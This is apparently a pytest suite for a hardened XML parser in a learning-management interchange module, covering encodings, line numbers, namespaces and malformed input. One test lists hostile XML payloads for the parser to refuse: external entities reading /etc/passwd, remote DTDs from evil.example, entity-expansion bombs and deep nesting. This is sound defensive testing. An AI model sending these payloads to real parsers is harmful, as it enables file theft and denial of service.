"""XML from strangers: read with its lines in every usual encoding, refused where it could do harm."""

import time
from contextlib import suppress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.interchange import xml_safe
from lms.interchange.xml_safe import (
    MAX_DEPTH,
    BrokenXml,
    UnsafeXml,
    child,
    children,
    line_of,
    local,
    parse,
    text_of,
)


def test_each_element_knows_the_line_of_its_tag():
    root = parse(b"<?xml version='1.0'?>\n<quiz>\n  <question\n type='x'>\n<text/></question>\n</quiz>")
    assert [line_of(element) for element in root.iter()] == [2, 3, 5]


@pytest.mark.parametrize(
    ("declared", "encoding"),
    [
        ("UTF-8", "utf-8"),
        ("UTF-8", "utf-8-sig"),
        ("UTF-16", "utf-16"),
        ("UTF-16", "utf-16-le"),
        ("GBK", "gbk"),
        ("gb2312", "gb18030"),
        ("GB18030", "gb18030"),
        ("Big5", "big5"),
        ("UTF-16", "utf-8"),
        ("utf-8", "gb18030"),
        ("klingon", "utf-8"),
    ],
)
def test_every_usual_encoding_is_read_whatever_the_declaration_says(declared, encoding):
    data = f'<?xml version="1.0" encoding="{declared}"?>\r\n<a>退款</a>'.encode(encoding)
    root = parse(data)
    assert (root.text, line_of(root)) == ("退款", 2)


def test_western_letters_are_read_as_declared():
    assert parse(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>').text == "café"


@pytest.mark.parametrize(
    "text",
    [
        "<!DOCTYPE a><a/>",
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>',
        "<a>" * (MAX_DEPTH + 1),
        "<a>" * 100_000 + "</a>" * 100_000,
    ],
    ids=["dtd", "remote dtd", "file", "laughs", "parameter", "deep", "deeper"],
)
def test_what_could_do_harm_is_refused(text):
    with pytest.raises(UnsafeXml):
        parse(text.encode())


def test_more_elements_than_any_honest_file_has_are_refused(monkeypatch):
    monkeypatch.setattr(xml_safe, "MAX_ELEMENTS", 1_000)
    with pytest.raises(UnsafeXml):
        parse(b"<a>" + b"<b/>" * 1_000 + b"</a>")


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (b"", 1),
        (b"<a>\n<b>\n</a>", 3),
        (b"<a>\n&nbsp;</a>", 2),
        (b"<a>\n\n\x0b</a>", 3),
        (b"\x89PNG\r\n", 1),
        (bytes(range(256)), 1),
    ],
)
def test_what_is_no_xml_says_the_line(data, line):
    with pytest.raises(BrokenXml) as broken:
        parse(data)
    assert broken.value.line == line


def test_names_are_found_whatever_their_namespace():
    root = parse(b'<a xmlns="urn:x"><b>1</b><c/><b>2<d>3</d></b></a>')
    assert [text_of(each) for each in children(root, "b")] == ["1", "23"]
    assert [local(each) for each in children(root)] == ["b", "c", "b"]
    assert child(root, "d") is None
    assert text_of(None) == ""


@pytest.mark.parametrize(
    "piece", ["<", "<a b='", "&", " ", "<?xml ", "<!--", "<![CDATA[", "]]>", '<a b="1" c="1">']
)
def test_no_repetition_hangs(piece):
    began = time.process_time()
    with pytest.raises((UnsafeXml, BrokenXml)):
        parse((piece * 300_000)[:300_000].encode())
    assert time.process_time() - began < 1


TOKENS = [
    "<a>",
    "</a>",
    "<a/>",
    "<!DOCTYPE a [",
    "<!ENTITY b 'c'>",
    "]>",
    "&b;",
    "&#0;",
    "&#x110000;",
    "<?xml ?>",
    "x",
]


@settings(max_examples=60, deadline=None)
@given(st.binary(max_size=200) | st.lists(st.sampled_from(TOKENS), max_size=12).map("".join).map(str.encode))
def test_any_bytes_are_read_or_refused(data):
    with suppress(UnsafeXml, BrokenXml):
        parse(data)
